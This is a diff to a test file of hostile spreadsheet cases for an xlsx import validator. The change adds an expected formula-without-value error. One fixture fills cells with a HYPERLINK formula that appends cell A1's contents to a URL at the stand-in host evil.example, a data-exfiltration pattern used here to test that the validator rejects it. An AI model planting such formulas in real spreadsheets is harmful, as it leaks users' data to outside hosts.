@@ -82,7 +82,7 @@ export const HOSTILE: HostileCase[] = [
   {
     name: 'formulas everywhere (no cached results)',
     build: () => minimalXlsx(sheet(header + [2, 3, 4, 5].map((r) => `<row r="${r}">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}${r}"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c>`).join('')}</row>`).join(''))),
-    expect: ['ROWS:REQUIRED', 'ROWS:MISSING_INCOME'],
+    expect: ['ROWS:FORMULA_WITHOUT_VALUE', 'ROWS:REQUIRED', 'ROWS:MISSING_INCOME'],
   },
   { name: 'formulas with cached error values', build: () => minimalXlsx(sheet(header + `<row r="2">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}2" t="e"><f>1/0</f><v>#DIV/0!</v></c>`).join('')}</row>`)), expect: ['ROWS:CELL_ERROR'] },
   { name: 'wrong sheet names, no headers', light: true, build: () => workbookBuffer([{ name: 'Sheet1', rows: [['abc', 'def']] }, { name: 'Data', rows: [[1, 2, 3]] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
